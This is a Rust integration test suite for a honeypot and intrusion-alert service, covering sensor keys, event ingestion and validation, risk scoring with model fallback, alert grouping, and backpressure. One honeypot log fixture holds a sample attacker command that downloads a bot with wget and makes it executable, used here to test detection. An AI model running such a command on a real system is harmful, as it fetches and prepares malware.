//! Watch through the API: nodes and their keys, ingestion on the new and the old paths with every
//! rejection, scoring with the built-in rules and with an external model that misbehaves, alert
//! grouping and thresholds, and counts that agree after concurrent ingestion.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use rampart_core::OrgId;
use rampart_core::settings::SettingKey;
use rampart_core::watch::AttackerOrder;
use rampart_store::Effects;
use rstest::rstest;
use serde_json::{Value, json};

use crate::helpers::{Backend, TestApp, TestDatabase, create_node, decoy, ingest, json_of, problem, remember_secret};

fn honeypot(ip: &str) -> Value {
    json!({"kind": "honeypot", "source_ip": ip, "service": "ssh", "activity": "login_attempt", "usernames": ["root"]})
}

#[rstest]
#[tokio::test]
async fn nodes_are_managed_by_admins_and_their_keys_shown_once(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let app = TestApp::spawn(backend).await;
    let ada = app.register("ada").await;
    let vic = app.member_of(&ada, "vic", "viewer").await;
    let (id, key) = create_node(&app, &ada, "ssh-trap", "honeypot").await;
    assert!(key.starts_with("nk_"));

    problem(
        app.call("POST", "/api/v1/nodes", Some(&vic.access), Some(&json!({"name": "x", "kind": "agent"}))).await,
        403,
    )
    .await;
    let refused = problem(
        app.call("POST", "/api/v1/nodes", Some(&ada.access), Some(&json!({"name": "", "kind": "toaster"}))).await,
        422,
    )
    .await;
    assert_eq!(refused["errors"].as_array().map(Vec::len), Some(2), "{refused}");
    problem(
        app.call("POST", "/api/v1/nodes", Some(&ada.access), Some(&json!({"name": "ssh-trap", "kind": "agent"}))).await,
        409,
    )
    .await;

    let listed = json_of(app.call("GET", "/api/v1/nodes?kind=honeypot", Some(&vic.access), None).await).await;
    assert_eq!(listed["items"][0]["id"], id.as_str());
    assert!(listed["items"][0].get("key").is_none(), "the key is never shown again");
    assert!(listed["items"][0]["last_seen_at"].is_null());

    ingest(&app, &key, &honeypot("203.0.113.1")).await;
    let seen = json_of(app.call("GET", &format!("/api/v1/nodes/{id}"), Some(&vic.access), None).await).await;
    assert!(seen["last_seen_at"].is_string(), "{seen}");

    // Inactive: refused. Rotated: the old key is unknown, the new one works.
    let off = app
        .call("PATCH", &format!("/api/v1/nodes/{id}"), Some(&ada.access), Some(&json!({"status": "inactive"})))
        .await;
    assert_eq!(json_of(off).await["status"], "inactive");
    problem(app.sensor_call("/api/v1/ingest/events", &key, &honeypot("203.0.113.1")).await, 403).await;
    app.call("PATCH", &format!("/api/v1/nodes/{id}"), Some(&ada.access), Some(&json!({"status": "active"}))).await;
    let rotated =
        json_of(app.call("POST", &format!("/api/v1/nodes/{id}/rotate-key"), Some(&ada.access), None).await).await;
    let new_key = rotated["key"].as_str().expect("a new key").to_owned();
    remember_secret(new_key.clone());
    problem(app.sensor_call("/api/v1/ingest/events", &key, &honeypot("203.0.113.1")).await, 401).await;
    ingest(&app, &new_key, &honeypot("203.0.113.1")).await;

    let audit = json_of(app.call("GET", "/api/v1/audit?action=node.refused", Some(&ada.access), None).await).await;
    assert!(audit["items"].as_array().is_some_and(|items| !items.is_empty()), "refusals are audited: {audit}");
    let audit = json_of(app.call("GET", "/api/v1/audit?action=node.rotate_key", Some(&ada.access), None).await).await;
    assert_eq!(audit["items"][0]["target"], format!("node:{id}"));

    // Another organisation's admin can neither see nor touch it.
    let bob = app.register("bob").await;
    problem(app.call("GET", &format!("/api/v1/nodes/{id}"), Some(&bob.access), None).await, 404).await;
    problem(app.call("DELETE", &format!("/api/v1/nodes/{id}"), Some(&bob.access), None).await, 404).await;

    let deleted = app.call("DELETE", &format!("/api/v1/nodes/{id}"), Some(&ada.access), None).await;
    assert_eq!(deleted.status(), 204);
    problem(app.sensor_call("/api/v1/ingest/events", &new_key, &honeypot("203.0.113.1")).await, 401).await;
}

#[rstest]
#[tokio::test]
async fn batches_keep_the_good_events_and_name_the_bad_ones(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let app = TestApp::spawn(backend).await;
    let ada = app.register("ada").await;
    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;

    let future = (chrono::Utc::now() + chrono::Duration::hours(2)).to_rfc3339();
    let batch = json!([
        honeypot("203.0.113.5"),
        {"kind": "honeypot", "source_ip": "not-an-ip", "service": "ssh"},
        {"kind": "honeypot", "source_ip": "203.0.113.5", "service": "s".repeat(51), "activity": "a".repeat(101)},
        {"kind": "honeypot", "source_ip": "203.0.113.5", "service": "http", "payload": "p".repeat(10 * 1024 + 1)},
        {"kind": "agent", "hostname": "h".repeat(256), "action": "open"},
        {"kind": "honeypot", "source_ip": "203.0.113.5", "service": "ssh", "timestamp": future},
        {"kind": "honeypot", "source_ip": "203.0.113.5", "service": "ssh", "source_port": "high"},
        decoy("203.0.113.5"),
    ]);
    let answer = ingest(&app, &key, &batch).await;
    let accepted: Vec<u64> =
        answer["accepted"].as_array().expect("accepted").iter().filter_map(|a| a["index"].as_u64()).collect();
    assert_eq!(accepted, [0, 7], "{answer}");
    let rejected: Vec<(u64, Vec<&str>)> = answer["rejected"]
        .as_array()
        .expect("rejected")
        .iter()
        .map(|r| {
            let fields = r["errors"].as_array().expect("errors").iter().filter_map(|e| e["field"].as_str()).collect();
            (r["index"].as_u64().expect("index"), fields)
        })
        .collect();
    assert_eq!(
        rejected,
        [
            (1, vec!["source_ip"]),
            (2, vec!["service", "activity"]),
            (3, vec!["payload"]),
            (4, vec!["hostname"]),
            (5, vec!["timestamp"]),
            (6, vec!["source_port"]),
        ]
    );
    let decoy_event = &answer["accepted"][1];
    assert_eq!((decoy_event["score"].as_f64(), decoy_event["attack_type"].as_str()), (Some(8.0), Some("decoy_access")));
    assert_eq!(decoy_event["alert_raised"], true, "8 reaches the default threshold of 7");
    assert_eq!(answer["accepted"][0]["reasons"][0]["rule"], "service");

    // NDJSON, and a request whose every event is bad.
    let ndjson = format!("{}\n\n{}\n", honeypot("198.51.100.1"), honeypot("198.51.100.2"));
    let response = app
        .client()
        .post(app.url("/api/v1/ingest/events"))
        .header("X-Node-Key", &key)
        .header("Content-Type", "application/x-ndjson")
        .body(ndjson)
        .send()
        .await
        .expect("sent");
    assert_eq!(json_of(response).await["accepted"].as_array().map(Vec::len), Some(2));
    let all_bad =
        problem(app.sensor_call("/api/v1/ingest/events", &key, &json!([{"kind": "honeypot"}])).await, 422).await;
    let fields: Vec<&str> =
        all_bad["errors"].as_array().expect("errors").iter().filter_map(|e| e["field"].as_str()).collect();
    assert_eq!(fields, ["[0].source_ip", "[0].service"]);
    let one_bad = problem(app.sensor_call("/api/v1/ingest/events", &key, &json!({"kind": "toaster"})).await, 422).await;
    assert_eq!(one_bad["errors"][0]["field"], "kind");
    let too_many: Vec<Value> = (0..1001).map(|_| honeypot("198.51.100.3")).collect();
    problem(app.sensor_call("/api/v1/ingest/events", &key, &json!(too_many)).await, 413).await;
    problem(app.sensor_call("/api/v1/ingest/events", "nk_nothing", &honeypot("198.51.100.3")).await, 401).await;
    let response = app.client().post(app.url("/api/v1/ingest/events")).json(&honeypot("198.51.100.3")).send().await;
    problem(response.expect("sent"), 401).await;
}

#[rstest]
#[tokio::test]
async fn the_old_sensor_paths_answer_as_before(#[values(Backend::Sqlite, Backend::Postgres)] backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let ada = app.register("ada").await;
    let (trap, trap_key) = create_node(&app, &ada, "trap", "honeypot").await;
    let (laptop, laptop_key) = create_node(&app, &ada, "laptop", "agent").await;

    let log = json!({"node_id": trap, "service": "telnet", "source_ip": "203.0.113.8", "activity": "command",
                     "payload": "cd /tmp; wget http://x/bot; chmod +x bot", "timestamp": "2026-11-24T10:00:00"});
    let response = app.sensor_call("/api/honeypot-log", &trap_key, &log).await;
    assert_eq!(response.status(), 200);
    let receipt = json_of(response).await;
    assert_eq!(
        (receipt["status"].as_str(), receipt["message"].as_str()),
        (Some("success"), Some("Honeypot log received"))
    );
    assert_eq!(
        (receipt["risk_score"].as_f64(), receipt["attack_type"].as_str()),
        (Some(7.0), Some("command_execution"))
    );
    assert_eq!(receipt["alert_created"], true);

    // The key of another node, or another node's id: 403. No key: 401.
    problem(app.sensor_call("/api/honeypot-log", &laptop_key, &log).await, 403).await;
    let other = json!({"node_id": "node-0123456789abcdef", "service": "ssh", "source_ip": "203.0.113.8"});
    problem(app.sensor_call("/api/honeypot-log", &trap_key, &other).await, 403).await;
    let response = app.client().post(app.url("/api/honeypot-log")).json(&log).send().await.expect("sent");
    problem(response, 401).await;
    let long =
        json!({"node_id": trap, "service": "s".repeat(51), "source_ip": "203.0.113.8", "activity": "a".repeat(101)});
    let refused = problem(app.sensor_call("/api/honeypot-log", &trap_key, &long).await, 422).await;
    assert_eq!(refused["errors"].as_array().map(Vec::len), Some(2), "{refused}");

    let alert = json!({"node_id": laptop, "hostname": "fin-laptop-3", "username": "jdoe", "file_accessed": "passwords.xlsx",
                       "file_path": "C:/Users/jdoe/Desktop/passwords.xlsx", "action": "open", "timestamp": "2026-11-24T10:00:00"});
    for _ in 0..2 {
        let receipt = json_of(app.sensor_call("/api/agent-alert", &laptop_key, &alert).await).await;
        assert_eq!(receipt["message"], "Agent event received");
        assert_eq!(receipt["attack_type"], "decoy_access");
    }
    let decoys =
        json_of(app.call("GET", &format!("/api/v1/nodes/{laptop}/decoys"), Some(&ada.access), None).await).await;
    assert_eq!(decoys[0]["name"], "passwords.xlsx");
    assert_eq!(decoys[0]["accesses"], 2);
    let plain = json!({"node_id": laptop, "hostname": "fin-laptop-3", "file_path": "/srv/x", "action": "delete"});
    assert_eq!(
        json_of(app.sensor_call("/api/agent-alert", &laptop_key, &plain).await).await["attack_type"],
        "file_tampering"
    );
    let long = json!({"node_id": laptop, "hostname": "h".repeat(256), "action": "open"});
    problem(app.sensor_call("/api/agent-alert", &laptop_key, &long).await, 422).await;
}

#[rstest]
#[tokio::test]
async fn repeats_group_into_one_alert_and_each_organisation_sets_its_threshold(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let app = TestApp::spawn(backend).await;
    let ada = app.register("ada").await;
    let bob = app.register("bob").await;
    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;
    let (_, bob_key) = create_node(&app, &bob, "trap", "honeypot").await;

    // Three decoy touches by one source within the hour: one alert counting three.
    let mut alert_ids = Vec::new();
    for _ in 0..3 {
        let answer = ingest(&app, &key, &decoy("203.0.113.20")).await;
        alert_ids.push(answer["accepted"][0]["alert_id"].as_str().expect("alerted").to_owned());
    }
    assert!(alert_ids.iter().all(|id| *id == alert_ids[0]), "{alert_ids:?}");
    let alert =
        json_of(app.call("GET", &format!("/api/v1/alerts/{}", alert_ids[0]), Some(&ada.access), None).await).await;
    assert_eq!((alert["events"].as_u64(), alert["status"].as_str()), (Some(3), Some("open")));
    assert_eq!(alert["recent_events"].as_array().map(Vec::len), Some(3));
    // A different source or attack type is another alert.
    let other = ingest(&app, &key, &decoy("203.0.113.21")).await;
    assert_ne!(other["accepted"][0]["alert_id"].as_str(), Some(alert_ids[0].as_str()));

    // A resolved alert takes no more: the next touch raises a new one.
    let resolved = app
        .call(
            "PATCH",
            &format!("/api/v1/alerts/{}", alert_ids[0]),
            Some(&ada.access),
            Some(&json!({"status": "resolved", "note": "blocked at the edge"})),
        )
        .await;
    assert_eq!(json_of(resolved).await["status"], "resolved");
    // PostgreSQL cannot store a NUL: refused by field on both backends, never a 500.
    let nul = json!({"status": "open", "note": "a\u{0}b"});
    let refused = problem(
        app.call("PATCH", &format!("/api/v1/alerts/{}", alert_ids[0]), Some(&ada.access), Some(&nul)).await,
        422,
    )
    .await;
    assert_eq!(refused["errors"][0]["field"], "note", "{refused}");
    let again = ingest(&app, &key, &decoy("203.0.113.20")).await;
    assert_eq!(again["accepted"][0]["alert_raised"], true);
    let audit = json_of(app.call("GET", "/api/v1/audit?action=alert.update", Some(&ada.access), None).await).await;
    assert_eq!(audit["items"][0]["target"], format!("alert:{}", alert_ids[0]));
    let viewer = app.member_of(&ada, "vic", "viewer").await;
    let body = json!({"status": "acknowledged"});
    problem(
        app.call("PATCH", &format!("/api/v1/alerts/{}", alert_ids[0]), Some(&viewer.access), Some(&body)).await,
        403,
    )
    .await;
    problem(app.call("GET", &format!("/api/v1/alerts/{}", alert_ids[0]), Some(&bob.access), None).await, 404).await;

    // A window of one minute: the same source an hour later opens a new alert (timestamps say when).
    let org = OrgId::from_uuid(ada.org);
    let window = SettingKey::parse("alerts.window_seconds").expect("key");
    app.store.settings().put(org, &window, &json!(60), &Effects::none()).await.expect("window");
    app.watch.settings_changed(org);
    let early = (chrono::Utc::now() - chrono::Duration::hours(1)).to_rfc3339();
    let mut old = decoy("203.0.113.30");
    old["timestamp"] = json!(early);
    let first = ingest(&app, &key, &old).await;
    let second = ingest(&app, &key, &decoy("203.0.113.30")).await;
    assert_ne!(first["accepted"][0]["alert_id"], second["accepted"][0]["alert_id"], "past the window: a new alert");

    // Bob lowers his threshold to 2: his honeypot event (3 points) alerts; Ada's does not.
    let threshold = SettingKey::parse("alerts.threshold").expect("key");
    let bob_org = OrgId::from_uuid(bob.org);
    app.store.settings().put(bob_org, &threshold, &json!(2), &Effects::none()).await.expect("threshold");
    app.watch.settings_changed(bob_org);
    let bobs = ingest(&app, &bob_key, &honeypot("203.0.113.40")).await;
    let adas = ingest(&app, &key, &honeypot("203.0.113.40")).await;
    assert!(bobs["accepted"][0]["alert_id"].is_string(), "{bobs}");
    assert!(adas["accepted"][0]["alert_id"].is_null(), "{adas}");

    let list = json_of(app.call("GET", "/api/v1/alerts?status=open&min_score=8", Some(&ada.access), None).await).await;
    assert!(list["items"].as_array().is_some_and(|items| items.iter().all(|a| a["max_score"].as_f64() >= Some(8.0))));
    problem(app.call("GET", "/api/v1/alerts?source_ip=nope", Some(&ada.access), None).await, 422).await;
    let bobs_alerts = json_of(app.call("GET", "/api/v1/alerts", Some(&bob.access), None).await).await;
    assert_eq!(bobs_alerts["items"].as_array().map(Vec::len), Some(1), "organisations are apart");
}

/// A scoring model the test controls: answers with `answer`, or never when `hangs`, counting calls.
async fn model(answer: &'static str, status: u16, hangs: bool) -> (String, Arc<AtomicUsize>) {
    let calls = Arc::new(AtomicUsize::new(0));
    let counter = calls.clone();
    let router = axum::Router::new().route(
        "/score",
        axum::routing::post(move || {
            let counter = counter.clone();
            async move {
                counter.fetch_add(1, Ordering::SeqCst);
                if hangs {
                    std::future::pending::<()>().await;
                }
                (axum::http::StatusCode::from_u16(status).expect("status"), answer)
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let url = format!("http://{}/score", listener.local_addr().expect("addr"));
    tokio::spawn(async move { axum::serve(listener, router).await });
    (url, calls)
}

#[rstest]
#[case::good(r#"{"risk_score": 9.5, "attack_type": "botnet"}"#, 200, false, "model")]
#[case::hanging(r#"{"risk_score": 9.5}"#, 200, true, "builtin")]
#[case::down("", 503, false, "builtin")]
#[case::garbage("<html>oops</html>", 200, false, "builtin")]
#[case::out_of_range(r#"{"risk_score": 42}"#, 200, false, "builtin")]
#[tokio::test]
async fn an_external_model_scores_when_it_answers_and_the_rules_when_it_does_not(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
    #[case] answer: &'static str,
    #[case] status: u16,
    #[case] hangs: bool,
    #[case] scorer: &str,
) {
    let (url, calls) = model(answer, status, hangs).await;
    let app = TestApp::spawn_with(TestDatabase::create(backend).await, |config| {
        let mut model = rampart_watch::ModelConfig::new(url).expect("a model URL");
        model.timeout = Duration::from_millis(300);
        config.watch.model = Some(model);
        config.outbound.allow = vec!["127.0.0.1/32".into()];
    })
    .await;
    let ada = app.register("ada").await;
    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;

    let answer = ingest(&app, &key, &honeypot("203.0.113.50")).await;
    let event = &answer["accepted"][0];
    assert_eq!(event["scorer"], scorer, "{answer}");
    if scorer == "model" {
        assert_eq!((event["score"].as_f64(), event["attack_type"].as_str()), (Some(9.5), Some("botnet")));
        assert_eq!(event["alert_raised"], true);
    } else {
        assert_eq!(event["score"].as_f64(), Some(3.0), "the built-in score: {answer}");
    }
    assert_eq!(calls.load(Ordering::SeqCst), 1);
    let metrics = app.get("/metrics").await.text().await.expect("text");
    if scorer == "builtin" {
        assert!(
            metrics.lines().any(|line| line.starts_with("rampart_model_fallbacks{") && !line.ends_with(" 0")),
            "fallbacks are counted"
        );
    }
}

#[rstest]
#[tokio::test]
async fn a_model_on_loopback_is_not_called_unless_outbound_allow_names_it(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let (url, calls) = model(r#"{"risk_score": 9.5}"#, 200, false).await;
    let app = TestApp::spawn_with(TestDatabase::create(backend).await, |config| {
        config.watch.model = Some(rampart_watch::ModelConfig::new(url).expect("a model URL"));
    })
    .await;
    let ada = app.register("ada").await;
    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;

    let answer = ingest(&app, &key, &honeypot("203.0.113.50")).await;
    let event = &answer["accepted"][0];
    assert_eq!((event["scorer"].as_str(), event["score"].as_f64()), (Some("builtin"), Some(3.0)), "{answer}");
    assert_eq!(calls.load(Ordering::SeqCst), 0, "nothing was sent to the model");
    let metrics = app.get("/metrics").await.text().await.expect("text");
    assert!(
        metrics.lines().any(|line| line.starts_with("rampart_model_fallbacks{")
            && line.contains("unreachable")
            && line.ends_with(" 1")),
        "the refusal is a fallback, counted: {metrics}"
    );
}

#[rstest]
#[tokio::test]
async fn concurrent_sensors_leave_events_profiles_and_alerts_in_exact_agreement(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    const CLIENTS: usize = 20;
    const EVENTS: usize = 10_000;
    let app = Arc::new(TestApp::spawn(backend).await);
    let ada = app.register("ada").await;
    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;

    // Each client posts batches of 25 from its own few sources; every fifth event touches a decoy.
    let mut clients = Vec::new();
    for client in 0..CLIENTS {
        let (app, key) = (app.clone(), key.clone());
        clients.push(tokio::spawn(async move {
            let mut alerted = 0;
            for batch in 0..EVENTS / CLIENTS / 25 {
                let events: Vec<Value> = (0..25)
                    .map(|i| {
                        let ip = format!("198.51.{}.{}", client, (batch + i) % 7);
                        if i % 5 == 0 { decoy(&ip) } else { honeypot(&ip) }
                    })
                    .collect();
                let answer = ingest(&app, &key, &json!(events)).await;
                let accepted = answer["accepted"].as_array().expect("accepted");
                assert_eq!(accepted.len(), 25);
                alerted += accepted.iter().filter(|event| event["alert_id"].is_string()).count();
            }
            alerted
        }));
    }
    let mut alerted = 0;
    for client in clients {
        alerted += client.await.expect("client");
    }
    assert_eq!(alerted, EVENTS / 5, "every decoy touch (8 points) joins an alert, nothing else does");

    let org = OrgId::from_uuid(ada.org);
    let watch = app.store.watch();
    let counted: u64 = watch
        .counts(org, chrono::Utc::now() - chrono::Duration::days(1))
        .await
        .expect("counts")
        .iter()
        .map(|c| c.events)
        .sum();
    assert_eq!(counted, EVENTS as u64, "hourly counters");
    let attackers = watch.attackers(org, AttackerOrder::Risk, 0, 1000).await.expect("attackers");
    assert_eq!(attackers.len(), CLIENTS * 7);
    assert_eq!(attackers.iter().map(|a| a.events).sum::<u64>(), EVENTS as u64, "profiles");
    let alerts = watch
        .alerts(org, &rampart_store::AlertFilter::default(), rampart_store::Seek::first(1000))
        .await
        .expect("alerts");
    assert_eq!(alerts.len(), CLIENTS * 7, "one alert per source and attack type");
    assert_eq!(alerts.iter().map(|a| a.events).sum::<u64>(), (EVENTS / 5) as u64, "alert counts");
    assert_eq!(attackers.iter().map(|a| a.alerts).sum::<u64>(), alerts.len() as u64, "alerts per profile");
}

/// Holds the database's write lock on the events, so that the ingestion writer waits.
async fn block_writes(database: &TestDatabase) -> Box<dyn std::any::Any + Send> {
    use sqlx::Connection;
    match database {
        TestDatabase::Sqlite { .. } => {
            let url = format!("{}?mode=rw", database.url());
            let mut connection = sqlx::SqliteConnection::connect(&url).await.expect("connect");
            sqlx::query("BEGIN IMMEDIATE").execute(&mut connection).await.expect("the write lock");
            Box::new(connection)
        }
        TestDatabase::Postgres { url } => {
            let mut connection = sqlx::PgConnection::connect(url).await.expect("connect");
            sqlx::query("BEGIN").execute(&mut connection).await.expect("begin");
            sqlx::query("LOCK TABLE events IN EXCLUSIVE MODE").execute(&mut connection).await.expect("the lock");
            Box::new(connection)
        }
    }
}

#[rstest]
#[tokio::test]
async fn a_full_pipeline_answers_503_with_retry_after_instead_of_queueing(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let app = Arc::new(
        TestApp::spawn_with(TestDatabase::create(backend).await, |config| config.watch.queue_events = 1000).await,
    );
    let ada = app.register("ada").await;
    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;
    let batch: Vec<Value> = (0..1000).map(|i| honeypot(&format!("198.51.100.{}", i % 250))).collect();
    let batch = json!(batch);

    // While the writer waits for the lock, one full batch fills the pipeline: the other is refused.
    let lock = block_writes(app.database()).await;
    let mut posts = tokio::task::JoinSet::new();
    for _ in 0..2 {
        let (app, key, batch) = (app.clone(), key.clone(), batch.clone());
        posts.spawn(async move {
            let response = app.sensor_call("/api/v1/ingest/events", &key, &batch).await;
            let retry_after =
                response.headers().get("retry-after").map(|value| value.to_str().unwrap_or("").to_owned());
            (response.status().as_u16(), retry_after)
        });
    }
    let refused = tokio::time::timeout(Duration::from_secs(20), posts.join_next()).await;
    drop(lock);
    let refused =
        refused.expect("one batch is answered while the database is locked").expect("a post").expect("joined");
    assert_eq!(refused, (503, Some("1".to_owned())), "refused at once, with Retry-After");
    let taken = posts.join_next().await.expect("the other post").expect("joined");
    assert_eq!(taken.0, 200, "the batch in the pipeline is committed once the lock is gone");
}

#[rstest]
#[tokio::test]
async fn a_flooding_organisation_is_refused_its_share_while_another_is_still_taken(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let app = Arc::new(
        TestApp::spawn_with(TestDatabase::create(backend).await, |config| config.watch.queue_events = 1000).await,
    );
    let ada = app.register("ada").await;
    let bob = app.register("bob").await;
    let (_, ada_key) = create_node(&app, &ada, "trap", "honeypot").await;
    let (_, bob_key) = create_node(&app, &bob, "trap", "honeypot").await;
    let batch: Vec<Value> = (0..1000).map(|i| honeypot(&format!("198.51.100.{}", i % 250))).collect();
    let batch = Arc::new(json!(batch));
    let post = |key: &str| {
        let (app, key, batch) = (app.clone(), key.to_owned(), batch.clone());
        async move { app.sensor_call("/api/v1/ingest/events", &key, &batch).await.status().as_u16() }
    };

    // While the writer waits for the lock, ada's organisation fills its share (half the queue):
    // of its two batches, one waits and the other is refused at once.
    let lock = block_writes(app.database()).await;
    let mut ada_posts = tokio::task::JoinSet::new();
    ada_posts.spawn(post(&ada_key));
    ada_posts.spawn(post(&ada_key));
    let refused = tokio::time::timeout(Duration::from_secs(20), ada_posts.join_next()).await;
    let refused = refused.expect("one of ada's batches is answered at once").expect("a post").expect("joined");
    assert_eq!(refused, 503, "past its share");

    // Bob's batch is taken: it waits in the queue beside ada's.
    let bob_org = OrgId::from_uuid(bob.org);
    let bob_post = tokio::spawn(post(&bob_key));
    let taken = tokio::time::timeout(Duration::from_secs(20), async {
        while app.watch.waiting(bob_org) == 0 && !bob_post.is_finished() {
            tokio::task::yield_now().await;
        }
    })
    .await;
    assert!(taken.is_ok(), "bob's batch is neither waiting nor answered");
    assert!(!bob_post.is_finished() && app.watch.waiting(bob_org) > 0, "bob's batch waits, it is not refused");
    drop(lock);
    assert_eq!(bob_post.await.expect("joined"), 200, "committed once the lock is gone");
    let ada_taken = ada_posts.join_next().await.expect("ada's other post").expect("joined");
    assert_eq!(ada_taken, 200);
}

#[rstest]
#[tokio::test]
async fn an_address_that_keeps_sending_refused_keys_is_told_to_wait(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let app = TestApp::spawn(backend).await;
    let ada = app.register("ada").await;
    let (_, key) = create_node(&app, &ada, "trap", "honeypot").await;
    let (other, _) = create_node(&app, &ada, "other", "honeypot").await;
    // The right key, naming another node: refused (403) and audited, 60 times a minute at most.
    let log = json!({"node_id": other, "service": "ssh", "source_ip": "203.0.113.8"});
    // The quota refills one a second: on a slow machine a few more than 60 may pass, never fewer.
    let mut refused = 0;
    let mut told_to_wait = false;
    for _ in 0..200 {
        let response = app.sensor_call("/api/honeypot-log", &key, &log).await;
        match response.status().as_u16() {
            403 => refused += 1,
            429 => {
                assert!(response.headers().contains_key("retry-after"));
                told_to_wait = true;
                break;
            }
            status => panic!("a refusal or a wait, not {status}"),
        }
    }
    assert!(told_to_wait && refused >= 60, "{refused} refusals before the wait");
    let audit =
        json_of(app.call("GET", "/api/v1/audit?action=node.refused&limit=500", Some(&ada.access), None).await).await;
    assert_eq!(audit["items"].as_array().map(Vec::len), Some(refused), "past the limit nothing more is written");
    // A sensor whose key is right is not limited.
    ingest(&app, &key, &honeypot("203.0.113.8")).await;
}
